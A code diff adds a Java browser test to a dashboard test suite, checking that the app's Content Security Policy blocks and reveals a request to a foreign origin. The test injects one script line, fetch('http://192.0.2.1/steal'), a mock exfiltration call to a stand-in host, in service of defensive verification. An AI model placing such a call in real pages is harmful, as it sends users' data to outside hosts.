@@ -128,6 +128,21 @@ class DashboardBrowserTest {
         assertEquals(List.of(), urls.stream().filter(u -> !u.startsWith(origin)).toList(), "requests outside the app");
     }
 
+    /** Le garde-fou du test précédent : une requête vers une autre origine ne passerait pas inaperçue. */
+    @Test
+    void aForeignRequestWouldBeSeenByTheseChecks() {
+        browser.consoleSince();
+        browser.requestedUrlsSince();
+        browser.script("fetch('http://192.0.2.1/steal').catch(() => {})");
+        List<String> seen = browser.until("the foreign request to be noticed", d -> {
+            List<String> found = new java.util.ArrayList<>(browser.requestedUrlsSince());
+            browser.consoleSince().stream().filter(e -> e.getLevel().intValue() >= Level.SEVERE.intValue())
+                    .forEach(e -> found.add(e.getMessage()));
+            return found.stream().anyMatch(m -> m.contains("192.0.2.1")) ? found : null;
+        });
+        assertTrue(seen.stream().anyMatch(m -> m.contains("Content Security Policy")), "the CSP refused it: " + seen);
+    }
+
     @Test
     void theChartDrawsThePortfolioHistory() {
         browser.until("points in the chart", d -> Integer.parseInt(browser.find("#chart").getAttribute("data-points")) >= SNAPSHOTS);
